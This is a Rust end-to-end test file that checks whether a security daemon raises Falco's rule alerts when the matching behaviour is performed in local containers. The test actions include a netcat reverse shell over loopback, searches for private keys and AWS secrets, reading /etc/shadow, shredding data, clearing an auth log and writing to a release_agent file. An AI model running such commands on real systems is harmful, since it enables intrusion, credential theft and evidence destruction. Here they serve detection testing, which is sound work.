//! End-to-end tests of Falco's own stable rules — the peer file `../shared/peers/falco_rules.yaml`,
//! which nobody here wrote — run by a real habitd (real probes, real containers): for every rule
//! whose behaviour habitd's probes can observe, a test performs that behaviour for real (in a
//! container or on the host, whichever the rule's condition asks for) and expects an alert named
//! after the rule. Rules that habitd cannot observe are listed in [`NOT_OBSERVABLE`] with the
//! reason, and [`every_peer_rule_is_tested_or_listed_as_not_observable`] checks that each of the
//! file's rules is accounted for.
//!
//! The daemon runs with the peer file only (`builtin_rules = false`) and learns for ten minutes,
//! so that every rule hit is alerted as it is (nothing is suppressed by a baseline yet).
//! Everything stays on the machine: containers talk to themselves over loopback.
//!
//! Needs root, BTF, Docker, a static busybox and `cc` (the tests fail, saying what to install,
//! when one is missing), and the peer file: `$HABITD_FALCO_RULES`, or
//! `shared/peers/falco_rules.yaml` beside the repository. Without the file (a fresh clone has
//! none) each test prints `SKIPPED: falco_peer_e2e::NAME: ...` on standard error and passes
//! without running.
#![allow(clippy::unwrap_used, clippy::expect_used)]

mod common;

use std::collections::BTreeSet;
use std::os::unix::fs::PermissionsExt;
use std::path::PathBuf;
use std::process::{Command, Output};
use std::sync::OnceLock;
use std::time::{Duration, Instant};

use common::{Container, Daemon, import_rootfs, static_busybox, tail};
use serde_json::Value;

/// Rules with a test in this file: (rule name, test function).
const TESTED: &[(&str, &str)] = &[
    ("Run shell untrusted", "run_shell_untrusted"),
    ("Terminal shell in container", "terminal_shell_in_container"),
    (
        "Netcat Remote Code Execution in Container",
        "netcat_remote_code_execution_in_container",
    ),
    (
        "Search Private Keys or Passwords",
        "search_private_keys_or_passwords",
    ),
    ("Remove Bulk Data from Disk", "remove_bulk_data_from_disk"),
    (
        "Create Symlink Over Sensitive Files",
        "create_symlink_over_sensitive_files",
    ),
    (
        "Create Hardlink Over Sensitive Files",
        "create_hardlink_over_sensitive_files",
    ),
    (
        "Packet socket created in container",
        "packet_socket_created_in_container",
    ),
    (
        "Linux Kernel Module Injection Detected",
        "linux_kernel_module_injection_detected",
    ),
    ("PTRACE attached to process", "ptrace_attached_to_process"),
    ("PTRACE anti-debug attempt", "ptrace_anti_debug_attempt"),
    ("Find AWS Credentials", "find_aws_credentials"),
    ("Execution from /dev/shm", "execution_from_dev_shm"),
    (
        "Drop and execute new binary in container",
        "drop_and_execute_new_binary_in_container",
    ),
    (
        "Fileless execution via memfd_create",
        "fileless_execution_via_memfd_create",
    ),
    (
        "Read sensitive file untrusted",
        "read_sensitive_file_untrusted",
    ),
    ("Clear Log Activities", "clear_log_activities"),
    (
        "Detect release_agent File Container Escapes",
        "detect_release_agent_file_container_escapes",
    ),
    (
        "Disallowed SSH Connection Non Standard Port",
        "disallowed_ssh_connection_non_standard_port",
    ),
    (
        "Directory traversal monitored file read",
        "directory_traversal_monitored_file_read",
    ),
    (
        "Redirect STDOUT/STDIN to Network Connection in Container",
        "redirect_stdout_stdin_to_network_connection_in_container",
    ),
];

/// Rules that cannot fire on habitd's events, and why. Not faked: no test pretends otherwise.
const NOT_OBSERVABLE: &[(&str, &str)] = &[
    (
        "System user interactive",
        "needs user.name for non-root uids: habitd supplies only uid 0's name (no passwd lookup in the process's root yet)",
    ),
    (
        "Read sensitive file trusted after startup",
        "needs proc.duration (proc_is_new: the process started more than 5 s ago), which habitd does not supply",
    ),
    (
        "Contact K8S API Server From Container",
        "the condition names the server by its DNS name (fd.sip.name = \
         kubernetes.default.svc.cluster.local): habitd sees addresses, never the names of \
         remote hosts (and no Kubernetes runs here)",
    ),
    (
        "Debugfs Launched in Privileged Container",
        "needs container.privileged, which habitd does not supply (a gap: Docker's \
         HostConfig.Privileged), and a privileged container cannot start on these machines \
         (their capability bounding set lacks CAP_SYS_RESOURCE: runc fails with 'unable to \
         apply caps'), so the behaviour cannot be produced here",
    ),
];

/// The image every container test runs (built once per test binary).
const IMAGE: &str = "habitd-e2e/falco-peer:e2e";
/// Its workload key, as habitd normalises it.
const WORKLOAD: &str = "docker.io/habitd-e2e/falco-peer:e2e";
/// What a test container runs unless told otherwise.
const IDLE: &[&str] = &["/bin/peer_actions", "sleep", "600"];

/// How long habitd may take to report the action's event (under load from other tests).
const EVENT_WAIT: Duration = Duration::from_secs(30);
/// How long after the event its alert may take to reach the alert file.
const ALERT_GRACE: Duration = Duration::from_secs(4);

/// Container starts are the heavy part on two cores: one at a time.
static DOCKER_RUN: std::sync::Mutex<()> = std::sync::Mutex::new(());

// ---------------------------------------------------------------------------------------------
// The peer rules file and the daemon.

/// The peer rules file: `$HABITD_FALCO_RULES`, or `shared/peers/falco_rules.yaml` beside the
/// repository (CI lays `shared/` there). It is outside data that a fresh clone does not have:
/// without it the calling test says on standard error that it did not run, and why, and
/// returns (`None`). Root, BTF and Docker are not data: their absence fails the tests.
fn peer_rules_path(test: &str) -> Option<PathBuf> {
    let (path, how) = match std::env::var_os("HABITD_FALCO_RULES") {
        Some(p) => (PathBuf::from(p), "HABITD_FALCO_RULES"),
        None => (
            PathBuf::from(concat!(
                env!("CARGO_MANIFEST_DIR"),
                "/../shared/peers/falco_rules.yaml"
            )),
            "the default path",
        ),
    };
    if path.is_file() {
        return Some(path.canonicalize().unwrap());
    }
    common::skipped(
        &format!("falco_peer_e2e::{test}"),
        &format!(
            "Falco's rules file not found at {} ({how}); set HABITD_FALCO_RULES=/path/to/falco_rules.yaml \
             or lay shared/peers/falco_rules.yaml beside the repository",
            path.display()
        ),
    );
    None
}

/// The names of the rules the file defines (`- rule: NAME` items), read without habitd's loader.
fn peer_rule_names(text: &str) -> Vec<String> {
    text.lines()
        .filter_map(|l| l.strip_prefix("- rule:"))
        .map(|n| n.trim().trim_matches(|c| c == '"' || c == '\'').to_string())
        .collect()
}

/// A habitd with only the peer rules, still learning (so no rule hit is suppressed).
/// `None` (the test did not run, and said why) without the peer rules file.
fn start_daemon(test: &str) -> Option<Daemon> {
    let rules = peer_rules_path(test)?;
    Some(Daemon::start(&format!(
        "rules = [{}]\nbuiltin_rules = false\nalerts_include_suppressed = true\n\
         [learning]\nmin = \"10m\"\n",
        serde_json::to_string(&rules.to_string_lossy()).unwrap()
    )))
}

/// A field of an event or alert as text (alerts render some numbers as strings).
fn text(f: &Value, key: &str) -> String {
    match &f[key] {
        Value::String(s) => s.clone(),
        Value::Null => String::new(),
        v => v.to_string(),
    }
}

fn is_exec(f: &Value) -> bool {
    f["evt.type"] == "execve"
}

/// Waits for habitd to report the action's event (`event`, on output fields) — it panics if
/// habitd never sees the action — then for an alert of `rule` whose output fields match
/// `alert`. `needs` says which Falco fields the rule's condition relies on, for the message.
fn check_rule(
    d: &Daemon,
    rule: &str,
    what: &str,
    needs: &str,
    event: impl Fn(&Value) -> bool,
    alert: impl Fn(&Value) -> bool,
) -> Result<Value, String> {
    let ev = d.wait_event(what, EVENT_WAIT, &event);
    let deadline = Instant::now() + ALERT_GRACE;
    loop {
        let alerts = d.alerts();
        if let Some(a) = alerts
            .iter()
            .find(|a| a["rule"] == rule && alert(&a["output_fields"]))
        {
            return Ok(a.clone());
        }
        if Instant::now() > deadline {
            let related: Vec<String> = alerts
                .iter()
                .filter(|a| alert(&a["output_fields"]))
                .map(|a| text(a, "rule"))
                .collect();
            return Err(format!(
                "Falco's rule {rule:?} did not fire on {what}.\nThe rule relies on: {needs}.\n\
                 habitd saw the action; its event (output fields):\n{ev:#}\n\
                 other rules that fired on it: {related:?}"
            ));
        }
        std::thread::sleep(Duration::from_millis(100));
    }
}

fn expect_rule(
    d: &Daemon,
    rule: &str,
    what: &str,
    needs: &str,
    event: impl Fn(&Value) -> bool,
    alert: impl Fn(&Value) -> bool,
) -> Value {
    check_rule(d, rule, what, needs, event, alert).unwrap_or_else(|e| panic!("{e}"))
}

/// Panics with every message if any check failed (so that one run reports all variants).
fn all_ok(results: Vec<Result<Value, String>>) {
    let errors: Vec<String> = results.into_iter().filter_map(Result::err).collect();
    assert!(errors.is_empty(), "{}", errors.join("\n\n"));
}

// ---------------------------------------------------------------------------------------------
// The helper program and the test image.

/// tests/fixtures/peer_actions.c, compiled statically.
fn peer_actions_binary() -> PathBuf {
    common::static_helper("peer_actions")
}

/// A local image (no registry is reachable) made from the host's static busybox, with
/// /bin/peer_actions, a long-running server stand-in at /usr/sbin/nginx (the same helper: Falco
/// knows trusted servers by process name), a web root with a CGI script that runs a shell,
/// /etc/shadow and a log file. Imported again only when its inputs changed (a label records
/// their hash), so that runs leave no dangling images behind.
fn peer_image() -> &'static str {
    static BUILT: OnceLock<()> = OnceLock::new();
    BUILT.get_or_init(|| {
        use std::hash::{Hash, Hasher};
        let busybox = static_busybox();
        let helper = peer_actions_binary();
        let root = tempfile::tempdir().unwrap();
        let files = format!(
            "set -e; cd {root}; mkdir -p bin usr/sbin etc tmp www/cgi-bin var/log root; \
             cp {busybox} bin/; \
             for a in sh cat ls sleep nc grep find shred mount mkdir cp echo id true httpd wget ip; \
             do ln -sf busybox bin/$a; done; \
             cp {helper} bin/peer_actions; ln -s /bin/peer_actions usr/sbin/nginx; \
             ln -s peer_actions bin/ssh; \
             echo 'root:x:0:0:root:/root:/bin/sh' > etc/passwd; \
             echo 'root:*:19000:0:99999:7:::' > etc/shadow; chmod 600 etc/shadow; \
             echo hello > www/index.html; \
             printf '#!/bin/sh\\necho Content-Type: text/plain\\necho\\n/bin/sh -c id\\n' \
               > www/cgi-bin/status.cgi; chmod 755 www/cgi-bin/status.cgi; \
             echo 'Nov 26 12:00:00 e2e sshd[1]: Accepted publickey for root' > var/log/auth.log; ",
            root = root.path().display(),
            busybox = busybox.display(),
            helper = helper.display(),
        );
        let mut h = std::collections::hash_map::DefaultHasher::new();
        files
            .replace(&root.path().display().to_string(), "")
            .hash(&mut h);
        std::fs::read(busybox).unwrap().hash(&mut h);
        std::fs::read(&helper).unwrap().hash(&mut h);
        let inputs = format!("{:016x}", h.finish());
        let label = "habitd.e2e.inputs";
        let current = Command::new("docker")
            .args(["image", "inspect", "-f"])
            .arg(format!("{{{{index .Config.Labels \"{label}\"}}}}"))
            .arg(IMAGE)
            .output()
            .unwrap();
        if String::from_utf8_lossy(&current.stdout).trim() == inputs {
            return;
        }
        let out = Command::new("sh").args(["-c", &files]).output().unwrap();
        assert!(
            out.status.success(),
            "preparing the root of {IMAGE} failed: {}",
            String::from_utf8_lossy(&out.stderr)
        );
        import_rootfs(
            root.path(),
            IMAGE,
            &["--change", &format!("LABEL {label}={inputs}")],
        );
    });
    IMAGE
}

/// A container of the test image, removed on drop.
struct Ctr(Container);

impl Ctr {
    /// `docker run -d --rm FLAGS IMAGE CMD`, then waits until habitd attributes the container
    /// to its image (events of a container not described yet are not matched against rules).
    fn start(d: &Daemon, flags: &[&str], cmd: &[&str]) -> Ctr {
        let c = {
            let _one = DOCKER_RUN.lock().unwrap_or_else(|p| p.into_inner());
            Ctr(Container::run_with(flags, peer_image(), cmd))
        };
        // An exec after the container is known to Docker carries the container id to habitd.
        c.exec(&["true"]);
        let id12 = c.id12().to_string();
        d.wait_event(
            "the test container attributed to its image",
            EVENT_WAIT,
            |f| f["container.id"] == id12.as_str() && f["habitd.workload"] == WORKLOAD,
        );
        c
    }

    fn id12(&self) -> &str {
        &self.0.id[..12]
    }

    /// Whether an event's or alert's output fields are about this container.
    fn is(&self, f: &Value) -> bool {
        f["container.id"] == self.id12()
    }

    fn exec(&self, args: &[&str]) -> Output {
        self.0.exec(args)
    }

    /// Runs `args` and asserts that they succeeded.
    fn exec_ok(&self, args: &[&str]) -> Output {
        let out = self.exec(args);
        assert!(
            out.status.success(),
            "docker exec {args:?} failed: {}{}",
            String::from_utf8_lossy(&out.stdout),
            String::from_utf8_lossy(&out.stderr)
        );
        out
    }

    /// Starts `args` in the background (`docker exec -d`).
    fn spawn(&self, args: &[&str]) {
        let out = self.0.exec_with(&["-d"], args);
        assert!(
            out.status.success(),
            "docker exec -d {args:?} failed: {}",
            String::from_utf8_lossy(&out.stderr)
        );
    }
}

// ---------------------------------------------------------------------------------------------
// Accounting: every rule of the file is tested or listed as not observable.

#[test]
fn every_peer_rule_is_tested_or_listed_as_not_observable() {
    let Some(path) = peer_rules_path("every_peer_rule_is_tested_or_listed_as_not_observable")
    else {
        return;
    };
    let names = peer_rule_names(&std::fs::read_to_string(&path).unwrap());
    let in_file: BTreeSet<&str> = names.iter().map(String::as_str).collect();
    assert_eq!(
        (names.len(), in_file.len()),
        (25, 25),
        "{} should define 25 distinct rules: {names:#?}",
        path.display()
    );
    let tested: BTreeSet<&str> = TESTED.iter().map(|(r, _)| *r).collect();
    let not_observable: BTreeSet<&str> = NOT_OBSERVABLE.iter().map(|(r, _)| *r).collect();
    assert_eq!(
        tested.len(),
        TESTED.len(),
        "a rule is listed twice in TESTED"
    );
    assert!(
        tested.is_disjoint(&not_observable),
        "rules both tested and listed not observable: {:?}",
        tested.intersection(&not_observable).collect::<Vec<_>>()
    );
    let listed: BTreeSet<&str> = tested.union(&not_observable).copied().collect();
    assert_eq!(
        listed,
        in_file,
        "rules of the file neither tested nor listed: {:?}; listed rules the file lacks: {:?}",
        in_file.difference(&listed).collect::<Vec<_>>(),
        listed.difference(&in_file).collect::<Vec<_>>()
    );
    for (rule, reason) in NOT_OBSERVABLE {
        assert!(!reason.is_empty(), "{rule}: say why it is not observable");
    }
    // habitd itself loads every rule of the file.
    let d = start_daemon("every_peer_rule_is_tested_or_listed_as_not_observable")
        .expect("the rules file was found above");
    let summary = format!("loaded {n} of {n} rules", n = names.len());
    assert!(
        d.log().contains(&summary),
        "habitd did not report '{summary}':\n{}",
        tail(&d.log(), 40)
    );
}

// ---------------------------------------------------------------------------------------------
// File reads and writes.

/// The other half of that rule: a server reading the file while it starts is normal
/// (`not proc_is_new`, i.e. proc.duration <= 5 s). habitd must know the process's age for this.
/// (While habitd supplies no fd.num the rule cannot fire at all, so this passes trivially; it
/// guards the exclusion once opens match.)
#[test]
fn run_shell_untrusted() {
    let Some(d) = start_daemon("run_shell_untrusted") else {
        return;
    };
    let c = Ctr::start(&d, &[], &["/bin/httpd", "-f", "-p", "8080", "-h", "/www"]);
    // A request to a CGI script makes the web server's child run a shell (the RCE pattern).
    let out = c.exec_ok(&[
        "wget",
        "-q",
        "-O",
        "-",
        "http://127.0.0.1:8080/cgi-bin/status.cgi",
    ]);
    assert!(
        String::from_utf8_lossy(&out.stdout).contains("uid=0"),
        "the CGI script did not run: {}",
        String::from_utf8_lossy(&out.stdout)
    );
    let a = expect_rule(
        &d,
        "Run shell untrusted",
        "busybox httpd's CGI script running /bin/sh -c id",
        "proc.name of a shell, proc.pname, proc.aname (an ancestor named httpd), proc.cmdline",
        |f| c.is(f) && is_exec(f) && f["proc.cmdline"] == "sh -c id",
        |f| c.is(f) && f["proc.cmdline"] == "sh -c id",
    );
    let f = &a["output_fields"];
    assert_eq!(f["proc.pname"], "status.cgi", "{a:#}");
    assert_eq!(f["proc.aname[2]"], "httpd", "{a:#}");
}

#[test]
fn terminal_shell_in_container() {
    let Some(d) = start_daemon("terminal_shell_in_container") else {
        return;
    };
    let c = Ctr::start(&d, &[], IDLE);
    // `docker exec -t`, like `kubectl exec -t`: a shell with a terminal as the entry point.
    let out = c.0.exec_with(&["-t"], &["sh", "-c", "exit 0"]);
    assert!(out.status.success(), "{out:?}");
    let a = expect_rule(
        &d,
        "Terminal shell in container",
        "`docker exec -t … sh` in a container",
        "proc.tty != 0; proc.pname one of the runtime's (runc, containerd-shim, …)",
        |f| c.is(f) && is_exec(f) && f["proc.cmdline"] == "sh -c exit 0",
        |f| c.is(f) && f["proc.cmdline"] == "sh -c exit 0",
    );
    assert_ne!(text(&a["output_fields"], "proc.tty"), "0", "{a:#}");
}

#[test]
fn netcat_remote_code_execution_in_container() {
    let Some(d) = start_daemon("netcat_remote_code_execution_in_container") else {
        return;
    };
    let c = Ctr::start(&d, &[], IDLE);
    // The attacker's end listens inside the same container; the reverse shell connects to it.
    c.spawn(&["nc", "-l", "-p", "5555"]);
    std::thread::sleep(Duration::from_millis(300));
    c.spawn(&["nc", "127.0.0.1", "5555", "-e", "/bin/sh"]);
    expect_rule(
        &d,
        "Netcat Remote Code Execution in Container",
        "`nc 127.0.0.1 5555 -e /bin/sh` in a container",
        "proc.name, proc.cmdline",
        |f| c.is(f) && is_exec(f) && f["proc.cmdline"] == "nc 127.0.0.1 5555 -e /bin/sh",
        |f| c.is(f) && f["proc.cmdline"] == "nc 127.0.0.1 5555 -e /bin/sh",
    );
}

#[test]
fn search_private_keys_or_passwords() {
    let Some(d) = start_daemon("search_private_keys_or_passwords") else {
        return;
    };
    let c = Ctr::start(&d, &[], IDLE);
    c.exec(&["find", "/root", "/etc", "-name", "id_rsa"]);
    c.exec(&["grep", "-rl", "BEGIN RSA PRIVATE KEY", "/etc", "/root"]);
    let rule = "Search Private Keys or Passwords";
    let needs = "proc.name, proc.args";
    all_ok(vec![
        check_rule(
            &d,
            rule,
            "`find /root /etc -name id_rsa`",
            needs,
            |f| c.is(f) && is_exec(f) && f["proc.name"] == "find",
            |f| c.is(f) && f["proc.name"] == "find",
        ),
        check_rule(
            &d,
            rule,
            "`grep -rl 'BEGIN RSA PRIVATE KEY' /etc /root`",
            needs,
            |f| c.is(f) && is_exec(f) && f["proc.name"] == "grep",
            |f| c.is(f) && f["proc.name"] == "grep",
        ),
    ]);
}

#[test]
fn find_aws_credentials() {
    let Some(d) = start_daemon("find_aws_credentials") else {
        return;
    };
    let c = Ctr::start(&d, &[], IDLE);
    c.exec(&["grep", "-ri", "aws_secret_access_key", "/root", "/etc"]);
    expect_rule(
        &d,
        "Find AWS Credentials",
        "`grep -ri aws_secret_access_key /root /etc` in a container",
        "proc.name, proc.args",
        |f| c.is(f) && is_exec(f) && f["proc.name"] == "grep",
        |f| c.is(f) && f["proc.name"] == "grep",
    );
}

#[test]
fn remove_bulk_data_from_disk() {
    let Some(d) = start_daemon("remove_bulk_data_from_disk") else {
        return;
    };
    let c = Ctr::start(&d, &[], IDLE);
    c.exec_ok(&["sh", "-c", "echo important > /tmp/data.db"]);
    c.exec_ok(&["shred", "-u", "/tmp/data.db"]);
    expect_rule(
        &d,
        "Remove Bulk Data from Disk",
        "`shred -u /tmp/data.db` in a container",
        "proc.name",
        |f| c.is(f) && is_exec(f) && f["proc.name"] == "shred",
        |f| c.is(f) && f["proc.name"] == "shred",
    );
}

#[test]
fn create_symlink_over_sensitive_files() {
    let Some(d) = start_daemon("create_symlink_over_sensitive_files") else {
        return;
    };
    let c = Ctr::start(&d, &[], IDLE);
    let rule = "Create Symlink Over Sensitive Files";
    // A sensitive file and a sensitive directory (symlink(2) by busybox: evt.type symlink).
    c.exec_ok(&["/bin/busybox", "ln", "-s", "/etc/shadow", "/tmp/s"]);
    c.exec_ok(&["/bin/busybox", "ln", "-s", "/root", "/tmp/r"]);
    let mut results = Vec::new();
    for (target, link) in [("/etc/shadow", "/tmp/s"), ("/root", "/tmp/r")] {
        results.push(check_rule(
            &d,
            rule,
            &format!("`ln -s {target} {link}` in a container"),
            "evt.type symlink/symlinkat and evt.arg.target",
            |f| {
                c.is(f)
                    && matches!(f["evt.type"].as_str(), Some("symlink" | "symlinkat"))
                    && f["evt.arg.target"] == target
                    && f["evt.arg.linkpath"] == link
            },
            |f| c.is(f) && text(f, "evt.arg.target") == target,
        ));
    }
    all_ok(results);
}

#[test]
fn create_hardlink_over_sensitive_files() {
    let Some(d) = start_daemon("create_hardlink_over_sensitive_files") else {
        return;
    };
    let c = Ctr::start(&d, &[], IDLE);
    // link(2) by busybox: evt.type link, evt.arg.oldpath the existing /etc/shadow.
    c.exec_ok(&["/bin/busybox", "ln", "/etc/shadow", "/tmp/h"]);
    expect_rule(
        &d,
        "Create Hardlink Over Sensitive Files",
        "`ln /etc/shadow /tmp/h` in a container",
        "evt.type link/linkat and evt.arg.oldpath",
        |f| {
            c.is(f)
                && matches!(f["evt.type"].as_str(), Some("link" | "linkat"))
                && f["evt.arg.oldpath"] == "/etc/shadow"
                && f["evt.arg.newpath"] == "/tmp/h"
        },
        |f| c.is(f) && text(f, "evt.arg.oldpath") == "/etc/shadow",
    );
}

#[test]
fn execution_from_dev_shm() {
    let Some(d) = start_daemon("execution_from_dev_shm") else {
        return;
    };
    // In a container (Docker mounts /dev/shm noexec, so a script is run by a shell) ...
    let c = Ctr::start(&d, &[], IDLE);
    c.exec_ok(&["sh", "-c", "echo 'echo updated' > /dev/shm/update.sh"]);
    c.exec_ok(&["sh", "/dev/shm/update.sh"]);
    let rule = "Execution from /dev/shm";
    let in_container = check_rule(
        &d,
        rule,
        "`sh /dev/shm/update.sh` in a container",
        "proc.name of a shell and proc.args starting with /dev/shm",
        |f| c.is(f) && is_exec(f) && f["proc.cmdline"] == "sh /dev/shm/update.sh",
        |f| c.is(f) && f["proc.cmdline"] == "sh /dev/shm/update.sh",
    );
    // ... and on the host, a binary copied to /dev/shm and executed by its path (a short NAME:
    // proc.name is at most 15 characters). (`./NAME` run from /dev/shm needs proc.cwd, which
    // habitd does not supply yet.)
    let name = format!("shm-{}", std::process::id());
    let path = format!("/dev/shm/{name}");
    std::fs::copy(peer_actions_binary(), &path).unwrap();
    std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o755)).unwrap();
    // ETXTBSY (26) while a child forked by another test thread still holds the copy's
    // descriptor for writing (until it executes): retry, it goes away.
    let mut by_path = Command::new(&path).arg("true").status();
    let deadline = Instant::now() + Duration::from_secs(5);
    while by_path
        .as_ref()
        .is_err_and(|e| e.raw_os_error() == Some(26))
        && Instant::now() < deadline
    {
        std::thread::sleep(Duration::from_millis(50));
        by_path = Command::new(&path).arg("true").status();
    }
    let _ = std::fs::remove_file(&path);
    assert!(by_path.unwrap().success(), "running {path} failed");
    let on_host = |args: &'static str, what: String, needs: &str| {
        let mine = |f: &Value| f["proc.name"] == name.as_str() && f["proc.args"] == args;
        check_rule(
            &d,
            rule,
            &what,
            needs,
            |f| is_exec(f) && mine(f),
            |f| f["container.id"] == "host" && mine(f),
        )
    };
    all_ok(vec![
        in_container,
        on_host(
            "true",
            format!("`{path} true` on the host"),
            "proc.exe (argv[0]) starting with /dev/shm/",
        ),
    ]);
}

#[test]
fn drop_and_execute_new_binary_in_container() {
    let Some(d) = start_daemon("drop_and_execute_new_binary_in_container") else {
        return;
    };
    let c = Ctr::start(&d, &[], IDLE);
    c.exec_ok(&["cp", "/bin/peer_actions", "/tmp/dropped"]);
    c.exec_ok(&["/tmp/dropped", "true"]);
    expect_rule(
        &d,
        "Drop and execute new binary in container",
        "a binary copied to /tmp then executed in a container",
        "proc.is_exe_upper_layer",
        |f| c.is(f) && is_exec(f) && f["proc.exepath"] == "/tmp/dropped",
        |f| c.is(f) && f["proc.exepath"] == "/tmp/dropped",
    );
}

#[test]
fn fileless_execution_via_memfd_create() {
    let Some(d) = start_daemon("fileless_execution_via_memfd_create") else {
        return;
    };
    let c = Ctr::start(&d, &[], IDLE);
    // A dropper (run by a shell) copies a program into a memfd and executes it from there.
    c.exec_ok(&["sh", "-c", "/bin/peer_actions memfd-exec; true"]);
    expect_rule(
        &d,
        "Fileless execution via memfd_create",
        "fexecve of a memfd in a container",
        "proc.is_exe_from_memfd; proc.name/proc.pname not runc",
        |f| c.is(f) && is_exec(f) && f["proc.args"] == "true",
        |f| c.is(f) && f["proc.args"] == "true",
    );
}

// ---------------------------------------------------------------------------------------------
// Privileged operations and sockets.

#[test]
fn packet_socket_created_in_container() {
    let Some(d) = start_daemon("packet_socket_created_in_container") else {
        return;
    };
    let c = Ctr::start(&d, &[], IDLE);
    c.exec_ok(&["peer_actions", "packet-socket"]);
    expect_rule(
        &d,
        "Packet socket created in container",
        "socket(AF_PACKET, SOCK_RAW) in a container",
        "evt.type=socket, evt.arg.domain",
        |f| c.is(f) && f["evt.type"] == "socket",
        |f| c.is(f) && f["evt.type"] == "socket",
    );
}

#[test]
fn linux_kernel_module_injection_detected() {
    let Some(d) = start_daemon("linux_kernel_module_injection_detected") else {
        return;
    };
    // CAP_SYS_MODULE (and with it, Docker's seccomp profile lets init_module through). The
    // "module" is a few bytes of text: the kernel refuses it, nothing is loaded.
    let c = Ctr::start(&d, &["--cap-add", "SYS_MODULE"], IDLE);
    c.exec_ok(&["peer_actions", "module-load"]);
    let module_load =
        |f: &Value| c.is(f) && (f["evt.type"] == "init_module" || f["evt.type"] == "finit_module");
    expect_rule(
        &d,
        "Linux Kernel Module Injection Detected",
        "init_module/finit_module in a container with CAP_SYS_MODULE",
        "evt.type, thread.cap_effective",
        module_load,
        module_load,
    );
}

#[test]
fn ptrace_attached_to_process() {
    let Some(d) = start_daemon("ptrace_attached_to_process") else {
        return;
    };
    let c = Ctr::start(&d, &[], IDLE);
    c.exec_ok(&["peer_actions", "ptrace-attach"]);
    expect_rule(
        &d,
        "PTRACE attached to process",
        "PTRACE_ATTACH to another process in a container",
        "evt.type=ptrace, evt.arg.request",
        |f| c.is(f) && f["evt.type"] == "ptrace" && f["evt.arg.request"] == "PTRACE_ATTACH",
        |f| c.is(f) && f["evt.type"] == "ptrace",
    );
}

#[test]
fn ptrace_anti_debug_attempt() {
    let Some(d) = start_daemon("ptrace_anti_debug_attempt") else {
        return;
    };
    let c = Ctr::start(&d, &[], IDLE);
    c.exec_ok(&["peer_actions", "ptrace-traceme"]);
    expect_rule(
        &d,
        "PTRACE anti-debug attempt",
        "PTRACE_TRACEME in a container",
        "evt.type=ptrace, evt.arg.request",
        |f| c.is(f) && f["evt.type"] == "ptrace" && f["evt.arg.request"] == "PTRACE_TRACEME",
        |f| c.is(f) && f["evt.type"] == "ptrace",
    );
}

// ---------------------------------------------------------------------------------------------
// Rules that read a syscall's result (fd.num, evt.res, evt.rawres): opens and connects are
// reported at syscall exit.

#[test]
fn read_sensitive_file_untrusted() {
    let Some(d) = start_daemon("read_sensitive_file_untrusted") else {
        return;
    };
    let c = Ctr::start(&d, &[], IDLE);
    c.exec_ok(&["cat", "/etc/shadow"]);
    // A denied read is an open too, but not this rule's (open_read needs fd.num >= 0): the
    // failure is reported apart from the success, with its errno.
    let denied = c.exec(&["peer_actions", "open", "/etc/sudoers", "r"]);
    assert!(
        !denied.status.success(),
        "/etc/sudoers should not exist in the image"
    );
    let shadow = |f: &Value| c.is(f) && f["fd.name"] == "/etc/shadow" && f["proc.name"] == "cat";
    let a = expect_rule(
        &d,
        "Read sensitive file untrusted",
        "`cat /etc/shadow` in a container",
        "open_read: fd.num >= 0 (the open's result), evt.is_open_read, fd.name",
        |f| shadow(f) && f["evt.type"] == "openat",
        shadow,
    );
    let num = a["output_fields"]["fd.num"].as_i64().unwrap_or(-1);
    assert!(num >= 0, "fd.num of a successful open: {a:#}");
    let failed = d.wait_event("the failed open of /etc/sudoers", EVENT_WAIT, |f| {
        c.is(f) && f["fd.name"] == "/etc/sudoers"
    });
    assert_eq!(
        (&failed["fd.num"], &failed["evt.res"], &failed["evt.rawres"]),
        (&Value::from(-1), &Value::from("ENOENT"), &Value::from(-2)),
        "{failed:#}"
    );
    assert!(
        !d.alerts()
            .iter()
            .any(|a| a["rule"] == "Read sensitive file untrusted"
                && a["output_fields"]["fd.name"] == "/etc/sudoers"),
        "a failed open must not fire open_read"
    );
}

#[test]
fn clear_log_activities() {
    let Some(d) = start_daemon("clear_log_activities") else {
        return;
    };
    let c = Ctr::start(&d, &[], IDLE);
    // `: > file`: the shell opens the log with O_WRONLY|O_CREAT|O_TRUNC.
    c.exec_ok(&["sh", "-c", ": > /var/log/auth.log"]);
    let log = |f: &Value| c.is(f) && f["fd.name"] == "/var/log/auth.log";
    let a = expect_rule(
        &d,
        "Clear Log Activities",
        "`: > /var/log/auth.log` in a container",
        "open_write (fd.num >= 0), evt.arg.flags contains O_TRUNC, fd.filename",
        |f| log(f) && f["evt.type"] == "openat",
        log,
    );
    let flags = text(&a["output_fields"], "evt.arg.flags");
    assert!(flags.contains("O_TRUNC"), "{a:#}");
}

#[test]
fn detect_release_agent_file_container_escapes() {
    let Some(d) = start_daemon("detect_release_agent_file_container_escapes") else {
        return;
    };
    // The escape mounts a cgroup v1 hierarchy and writes its release_agent, a setting of the
    // whole host: on a shared machine the test writes a file of that name below /tmp instead,
    // in a container with CAP_SYS_ADMIN as root, which is what the rule matches.
    let c = Ctr::start(&d, &["--cap-add", "SYS_ADMIN"], IDLE);
    c.exec_ok(&["sh", "-c", "echo /tmp/x > /tmp/release_agent"]);
    let agent = |f: &Value| c.is(f) && f["fd.name"] == "/tmp/release_agent";
    expect_rule(
        &d,
        "Detect release_agent File Container Escapes",
        "a write to a release_agent file in a container with CAP_SYS_ADMIN",
        "open_write (fd.num >= 0), fd.name, thread.cap_effective",
        |f| agent(f) && f["evt.type"] == "openat",
        agent,
    );
}

#[test]
fn disallowed_ssh_connection_non_standard_port() {
    let Some(d) = start_daemon("disallowed_ssh_connection_non_standard_port") else {
        return;
    };
    // A public (documentation) address on the container's own loopback, and a listener on
    // 443: the "ssh" client's connect succeeds and nothing leaves the container.
    let c = Ctr::start(&d, &["--cap-add", "NET_ADMIN"], IDLE);
    c.exec_ok(&["ip", "addr", "add", "198.51.100.7/32", "dev", "lo"]);
    c.spawn(&["nc", "-l", "-p", "443"]);
    c.exec_ok(&["ssh", "connect", "198.51.100.7", "443"]);
    let ssh = |f: &Value| c.is(f) && f["fd.name"] == "->198.51.100.7:443";
    let a = expect_rule(
        &d,
        "Disallowed SSH Connection Non Standard Port",
        "an `ssh` client's connect to 198.51.100.7:443",
        "outbound: evt.rawres >= 0 or evt.res = EINPROGRESS (the connect's result), fd.ip, \
         fd.snet; proc.exe, fd.sport",
        |f| ssh(f) && f["evt.type"] == "connect",
        ssh,
    );
    assert_eq!(a["output_fields"]["evt.rawres"], Value::from(0), "{a:#}");
}

#[test]
